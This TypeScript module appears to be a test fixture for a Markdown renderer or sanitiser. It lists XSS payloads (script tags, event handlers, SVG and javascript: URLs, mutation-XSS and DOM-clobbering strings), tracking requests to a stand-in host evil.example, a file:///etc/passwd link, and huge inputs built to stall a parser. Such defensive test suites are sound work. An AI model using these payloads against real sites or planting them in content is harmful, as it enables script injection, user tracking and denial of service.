/** What a payload does where it runs: it leaves a mark, asks somebody else's server, and opens a box. */
const RUN = "window.ran=1;fetch('https://evil.example/ran');alert(1)"
const EVIL = 'https://evil.example'

/** One way of hiding a program, a request or a page in Markdown. */
export interface Hostile {
  readonly name: string
  readonly text: string
}

const of = (name: string, ...texts: string[]): Hostile[] => texts.map((text, i) => ({ name: `${name} ${i + 1}`, text }))

const programs = of(
  'program',
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/a.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `<script>//<![CDATA[\n${RUN}\n//]]></script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\`\n<script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<object data="javascript:${RUN}"></object><embed src="${EVIL}/a.swf">`,
  `<applet code="${EVIL}"></applet><bgsound src="${EVIL}/a.wav">`,
)

const handlers = of(
  'handler',
  `<img src=x onerror="${RUN}">`,
  `<img src="x:x" onerror='${RUN}'>`,
  `<IMG """><img src=x onerror=${RUN}>">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>a</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>a</select>`,
  `<video src=x onerror="${RUN}"><source onerror="${RUN}"></video>`,
  `<audio src onloadstart="${RUN}">`,
  `<marquee onstart="${RUN}">a</marquee>`,
  `<div style="animation:x 1s" onanimationstart="${RUN}">a</div>`,
  `<p onmouseover="${RUN}" onclick="${RUN}" style="position:fixed;inset:0">a</p>`,
  `<a href="https://example.com" onclick="${RUN}" style="position:fixed;inset:0;z-index:9">a</a>`,
  `![a](https://example.com/a.png" onerror="${RUN})`,
  `![a" onerror="${RUN}](https://example.com/a.png)`,
  `[a](https://example.com "x" onclick="${RUN}")`,
  `[a](<https://example.com" onclick="${RUN}>)`,
  `<button popovertarget=x onclick="${RUN}">a</button><div popover id=x onbeforetoggle="${RUN}">b</div>`,
)

const drawings = of(
  'drawing',
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}' /></svg>#x" /></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">a</maction></math>`,
  `![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LnJhbj0xIi8+)`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
)

const addresses = of(
  'address',
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](java\tscript:${RUN})`,
  `[a](java&#10;script:${RUN})`,
  `[a](&#x6A;&#x61;vascript&colon;${RUN})`,
  `[a](\u0001javascript:${RUN})`,
  `[a](vbscript:msgbox)`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
  `[a](blob:https://example.com/1)`,
  `[a](file:///etc/passwd)`,
  `[a](file:javascript:${RUN})`,
  `[a](article:javascript:${RUN})`,
  `![a](file:../../evil)`,
  `[a](chrome://settings)`,
  `[a](view-source:https://example.com)`,
  `<javascript:${RUN}>`,
  `<a href="javascript&colon;${RUN}">a</a>`,
  `<a href=" &#14; javascript:${RUN}">a</a>`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `![a](javascript:${RUN})`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">a</button></form>`,
  `<base href="${EVIL}/"><a href="a">a</a><img src="a.png">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
)

/** Nothing of these runs, but each would tell somebody that the text was opened, or bring a page of theirs. */
const requests = of(
  'request',
  `![](${EVIL}/pixel.png)`,
  `![a](${EVIL}/pixel.png "t")`,
  `[![a](${EVIL}/pixel.png)](${EVIL})`,
  `![a][r]\n\n[r]: ${EVIL}/pixel.png`,
  `<img src="${EVIL}/p.png" srcset="${EVIL}/p2.png 2x" loading=eager>`,
  `<img src=//evil.example/p.png>`,
  `<picture><source srcset="${EVIL}/p.png"><img src="${EVIL}/p.png"></picture>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<object data="${EVIL}/a.pdf" type="application/pdf"></object>`,
  `<embed src="${EVIL}/a.pdf">`,
  `<link rel=stylesheet href="${EVIL}/a.css"><link rel=preload as=image href="${EVIL}/a.png">`,
  `<style>@import "${EVIL}/a.css"; body{background:url(${EVIL}/b.png)}</style>`,
  `<p style="background:url(${EVIL}/c.png)">a</p>`,
  `<table background="${EVIL}/d.png"><tr><td background="${EVIL}/e.png">a</td></tr></table>`,
  `<video poster="${EVIL}/f.png" src="${EVIL}/f.mp4" autoplay></video>`,
  `<audio src="${EVIL}/g.mp3" autoplay></audio><track src="${EVIL}/g.vtt">`,
  `<input type=image src="${EVIL}/h.png">`,
  `<a href="https://example.com" ping="${EVIL}/ping">a</a>`,
  `<svg><image href="${EVIL}/i.png" /></svg>`,
  `<svg><style>@font-face{font-family:a;src:url(${EVIL}/a.woff)}</style><text font-family=a>a</text></svg>`,
  `<body background="${EVIL}/j.png">`,
  `> [!note]\n> ![](${EVIL}/k.png)\n\n| ![](${EVIL}/l.png) |\n|---|\n| ![](${EVIL}/m.png) |`,
)

/** Texts that are one thing to a sanitiser and another to the page that takes them over. */
const changelings = of(
  'changeling',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><desc><style><img title="</style><img src onerror=${RUN}>"></style></desc></svg>`,
  `<table><caption><svg><desc><title><table><caption></svg></desc><p title="</title><img src onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<xmp><p title="</xmp><img src onerror=${RUN}>"></xmp>`,
  `<textarea><p title="</textarea><img src onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src onerror=${RUN}>"></title>`,
  `<!--><img src onerror=${RUN}>-->`,
  `<!--x--!><img src onerror=${RUN}>-->`,
  `<?xml-stylesheet ><img src onerror=${RUN}>?>`,
  `<![CDATA[><img src onerror=${RUN}>]]>`,
  `<p id="</p><img src onerror=${RUN}>">`,
  `<a href="\u00a0javascript:${RUN}">a</a>`,
  `<img src="a\u0000" onerror\u0000="${RUN}">`,
  `<b/onclick=${RUN}//<i>`,
  `<form><input name=attributes><input name=nodeName><input name=parentNode></form>`,
  `<a id=x><a id=x name=y href="javascript:${RUN}">clobber</a><img name=body><img name=getElementById>`,
  `# app\n\n<h2 id=reply name=writing>reply</h2>\n\n# getElementById\n\n[a](#app) [b](#reply) [c](#/devices) <a href="#text-">d</a>`,
  `</div></div></section><script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\<img src=x onerror=${RUN}>`,
  `\`\`\`"><img src=x onerror=${RUN}>\na\n\`\`\``,
  `|a"><img src=x onerror=${RUN}>|b|\n|:--|--:|\n|<img src=x onerror=${RUN}>|c|`,
  `1. <img src=x onerror=${RUN}>\n   - [x] <svg onload=${RUN}>\n     > <iframe src="${EVIL}">`,
  `{{customer.name}}<img src=x onerror=${RUN}>{{?<img src=x onerror=${RUN}>}}`,
  `> [!internal]<img src=x onerror=${RUN}>\n> <script>${RUN}</script>`,
  `[<img src=x onerror=${RUN}>](article:00000000-0000-7000-8000-000000000101)`,
  `![" data-remote="${EVIL}" x="](file:00000000-0000-7000-8000-000000000101)`,
  `<button data-remote="${EVIL}/n.png">a</button><img data-file="00000000-0000-7000-8000-000000000101">`,
)

const LONG = 60_000
const filled = (piece: string) => piece.repeat(Math.ceil(LONG / piece.length)).slice(0, LONG)
const named = (name: string, text: string): Hostile => ({ name, text: text.slice(0, LONG) })

/** As long as an article may be, and made to take long. */
export const endless: readonly Hostile[] = [
  named('brackets', filled('[')),
  named('pictures', filled('![a](')),
  named('stars', filled('**a_')),
  named('stars in paragraphs', filled(`${'**a_'.repeat(240)}\n\n`)),
  named('stars in long paragraphs', filled(`${'**a_'.repeat(990)}\n\n`)),
  named('lines', filled('_a')),
  named('mail addresses', `${filled('a.').slice(1)}@`),
  named('backticks', filled('`')),
  named('quotes', filled('>')),
  named('quotes in paragraphs', filled(`${'> '.repeat(900)}a\n\n`)),
  named('lists', filled('- ')),
  named('lists in lists', Array.from({ length: 340 }, (_, i) => `${' '.repeat(i)}- a`).join('\n')),
  named('a wide table', `${'|a'.repeat(200)}|\n${'|-'.repeat(200)}|\n${`${'|a'.repeat(200)}|\n`.repeat(150)}`),
  named('a long table', `|a|b|\n|-|-|\n${'|![](https://evil.example/t.png)|b|\n'.repeat(1_800)}`),
  named('pipes', filled('|')),
  named('elements', filled('<div>')),
  named('formatting elements', filled('<b><i><a href=x>')),
  named('tables in tables', filled('<table><tr><td>')),
  named('comments', filled('<!--')),
  named('entities', filled('&#x41')),
  named('references', `${Array.from({ length: 2_000 }, (_, i) => `[a${i}]: b`).join('\n')}\n\n${filled('[a1]')}`),
  named('headings', filled('# a\n')),
  named('fences', filled('```\n')),
  named('callouts', filled('> [!internal]\n> a\n\n')),
]

export const hostile: readonly Hostile[] = [
  ...programs,
  ...handlers,
  ...drawings,
  ...addresses,
  ...requests,
  ...changelings,
]
